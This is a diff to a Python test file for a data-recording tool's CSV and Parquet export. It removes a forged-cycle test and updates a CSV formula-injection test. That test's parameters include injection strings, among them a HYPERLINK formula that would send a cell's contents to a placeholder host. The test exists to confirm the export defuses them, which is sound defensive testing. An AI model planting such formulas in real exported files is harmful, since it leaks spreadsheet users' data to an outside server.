@@ -15,9 +15,8 @@ import pytest
 from click.testing import CliRunner, Result
 from test_record_recording import SESSION, simulated
 
-from mom_core import Decision, Guest, Host, MomError, Report, Scope, Snapshot, Source
+from mom_core import Decision, FieldSpec, Guest, Host, MomError, Report, Scope, Snapshot, Source, Unit
 from mom_plugins_record.recording.command import record
-from mom_plugins_record.recording.reader import Recording, session_content
 from mom_plugins_record.recording.writer import RecordingLimits, RecordingWriter, files_of
 
 
@@ -154,26 +153,6 @@ def test_a_damaged_cycle_is_left_out_and_told(simulation: tuple[Path, list[Repor
     assert list(pd.read_csv(tmp_path / "out" / "host.csv")["cycle"]) == [report.number for report in reports[:-1]]
 
 
-def test_a_forged_cycle_costs_itself(simulation: tuple[Path, list[Report]], tmp_path: Path) -> None:
-    cycles = list(Recording(simulation[0]).cycles())
-    forged = next(number for number, cycle in enumerate(cycles) if cycle.report.decisions)
-    source: Any = Source("p", 12, "one")  # type: ignore[arg-type]  # as a program writes it that means harm
-    writer = RecordingWriter(tmp_path / "r", RecordingLimits(1e10, 1 << 30))
-    writer.open()
-    for number, cycle in enumerate(cycles):
-        wanted = [replace(one, source=source) for one in cycle.report.decisions]
-        writer.session(session_content(cycle.session))
-        writer.cycle(replace(cycle.report, decisions=wanted) if number == forged else cycle.report)
-    writer.close()
-    done = export(tmp_path / "r", "--to", "parquet", "-o", tmp_path / "out")
-    assert done.exit_code == 0, done.exception
-    assert "1 cycles are lost" in done.stderr
-    assert "a whole number belongs" in done.stderr
-    for query in ("select distinct cycle from host order by 1", "select distinct cycle from guests order by 1"):
-        left = opened(tmp_path / "out").sql(query).fetchall()
-        assert left == [(cycle.report.number,) for cycle in cycles if cycle is not cycles[forged]]
-
-
 def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(
     simulation: tuple[Path, list[Report]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -195,7 +174,7 @@ def test_whole_numbers_stay_whole_in_csv(simulation: tuple[Path, list[Report]], 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1)", "+1", "-1+1", "\t=1"])
 def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path: Path, name: str) -> None:
-    session = {**session_content(SESSION), "fields": [[name, "text", "guest", "", ""], ["time", "text", "guest", "", ""]]}
+    session = replace(SESSION, fields=tuple(FieldSpec(one, Unit.TEXT, Scope.GUEST, "") for one in (name, "time")))
     guest = Guest("id", name, {name: name, "time": "x"})
     one = Report(1, 5.0, "enforce", Snapshot(Host(name), {"id": guest}, 5.0, 5.0, 1),
                  (Decision(guest.entity, name, 1, name, Source(name)),), (), (), (), (), 0.1)  # fmt: skip
